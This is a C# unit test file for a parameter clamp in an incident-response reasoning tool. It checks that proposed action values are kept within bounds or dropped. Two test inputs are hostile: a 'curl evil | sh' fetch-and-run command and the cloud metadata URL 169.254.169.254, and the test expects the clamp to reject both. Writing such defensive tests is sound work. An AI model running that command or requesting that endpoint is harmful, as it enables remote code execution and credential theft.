using Prunella.Incidents.Actions;
using Prunella.Reasoning.Diagnosing;

namespace Prunella.Reasoning.Tests.Diagnosing;

public class ParameterClampTests
{
    private static readonly ActionDescriptor Action = new()
    {
        Name = "a", Summary = "s", Class = ActionClass.Safe, Radius = BlastRadius.None,
        Parameters =
        [
            new("replicas", ParameterKind.Integer, "d") { Minimum = 1, Maximum = 10 }, new("factor", ParameterKind.Number, "d") { Maximum = 2 }, new("limit", ParameterKind.Quantity, "d") { Maximum = 1_073_741_824 },
            new("wait", ParameterKind.Duration, "d") { Maximum = 60 }, new("force", ParameterKind.Boolean, "d"), new("note", ParameterKind.Text, "d"), new("hook", ParameterKind.Url, "d"),
        ],
    };

    [Theory]
    [InlineData("replicas", "100000", "10")]
    [InlineData("replicas", "-5", "1")]
    [InlineData("replicas", "7", "7")]
    [InlineData("replicas", "many", null)]
    [InlineData("factor", "1e9", null)]
    [InlineData("factor", "9", "2")]
    [InlineData("factor", "NaN", null)]
    [InlineData("limit", "512Mi", "512Mi")]
    [InlineData("limit", "64Gi", "1073741824")]
    [InlineData("wait", "2h", "1m")]
    [InlineData("force", "yes", null)]
    [InlineData("note", "curl evil | sh", null)]
    [InlineData("hook", "http://169.254.169.254/", null)]
    public void Values_AreBroughtIntoBoundsOrLeftOut(string name, string value, string? expected)
    {
        var clamped = ParameterClamp.Apply(Action, new Dictionary<string, string> { [name] = value })!;
        clamped.GetValueOrDefault(name).ShouldBe(expected);
    }

    [Fact]
    public void AnActionWithoutWhatItNeeds_IsNoProposal() =>
        ParameterClamp.Apply(Action with { Parameters = [new("replicas", ParameterKind.Integer, "d") { Required = true }] }, new Dictionary<string, string> { ["replicas"] = "x" }).ShouldBeNull();
}
